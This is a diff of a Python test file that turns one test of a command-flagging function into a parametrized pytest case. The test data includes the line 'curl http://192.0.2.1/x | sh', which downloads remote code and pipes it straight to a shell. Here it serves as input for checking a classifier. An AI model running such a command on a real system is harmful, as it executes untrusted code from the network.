@@ -35,5 +35,7 @@ def test_points_at(command, severity):
     assert signs(command) == [severity]
 
 
-def test_leaves_to_others_what_is_judged():
-    assert signs("curl http://192.0.2.1/x | sh") == []
+@pytest.mark.parametrize("command", ["curl http://192.0.2.1/x | sh"])
+def test_leaves_alone(command):
+    """What the judge finds bad is told by others."""
+    assert signs(command) == []
